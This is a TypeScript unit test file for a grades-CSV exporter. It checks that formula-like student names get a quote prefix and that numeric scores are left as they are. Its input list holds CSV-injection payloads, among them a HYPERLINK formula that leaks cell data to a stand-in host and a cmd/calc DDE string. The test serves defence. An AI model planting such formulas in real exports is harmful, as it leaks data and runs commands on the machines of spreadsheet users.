import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { SessionState, SessionStudent } from "../../lib/sessions/get-session-state";
import { sessionGradesCsv } from "../../lib/sessions/session-csv";
import { testRubric } from "../helpers/grading";

function student(studentName: string, overrides: Partial<SessionStudent> = {}): SessionStudent {
  return {
    submissionId: "6f1c2a4e-0d3b-4c5a-9e8f-7a6b5c4d3e2f",
    studentName,
    status: "graded",
    progress: { rated: 6, total: 6 },
    overallScore: 3.5,
    criterionScores: { ideas: 4, conventions: 3 },
    errors: [],
    ...overrides,
  };
}

function session(students: SessionStudent[]): SessionState {
  return {
    id: "0b9d8c7e-6f5a-4b3c-8d2e-1f0a9b8c7d6e",
    title: "Period 3",
    createdAt: new Date("2026-12-02T09:00:00Z"),
    assignment: { id: "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d", title: "Later school start", rubric: testRubric },
    status: "completed",
    counts: { pending: 0, grading: 0, graded: students.length, failed: 0 },
    students,
  };
}

// OWASP's list (https://owasp.org/www-community/attacks/CSV_Injection), and the full-width forms spreadsheets normalise.
const HOSTILE_NAMES = [
  '=HYPERLINK("https://evil.example/?leak="&A2,"Click for grades")',
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1",
];

describe("the grades CSV (#9, formula injection) (pure)", () => {
  it("prefixes every text cell a spreadsheet would run as a formula with a quote, and leaves the rest as typed", () => {
    const csv = sessionGradesCsv(session([...HOSTILE_NAMES.map((name) => student(name)), student("Ann Lee"), student("Zoë -dash inside")]));
    const [, ...rows] = parse(csv, { relax_quotes: false }) as string[][];
    const names = rows.map((row) => row[0]);
    // Before, each hostile name came back exactly as sent: a live formula in the teacher's spreadsheet.
    expect(names).toEqual([...HOSTILE_NAMES.map((name) => `'${name}`), "Ann Lee", "Zoë -dash inside"]);
  });

  it("keeps scores numbers, negative ones included: a number cell is never prefixed", () => {
    const csv = sessionGradesCsv(session([student("-Dana", { overallScore: -1.5, criterionScores: { ideas: -2, conventions: 0 } })]));
    const [header, row] = parse(csv) as string[][];
    expect(header).toEqual(["student", "status", "overall_score", "ideas", "conventions", "lines_rated", "lines_total", "submission_id"]);
    expect(row).toEqual(["'-Dana", "graded", "-1.5", "-2", "0", "6", "6", "6f1c2a4e-0d3b-4c5a-9e8f-7a6b5c4d3e2f"]);
    expect(csv.split("\n")[1]).toBe("'-Dana,graded,-1.5,-2,0,6,6,6f1c2a4e-0d3b-4c5a-9e8f-7a6b5c4d3e2f");
  });
});
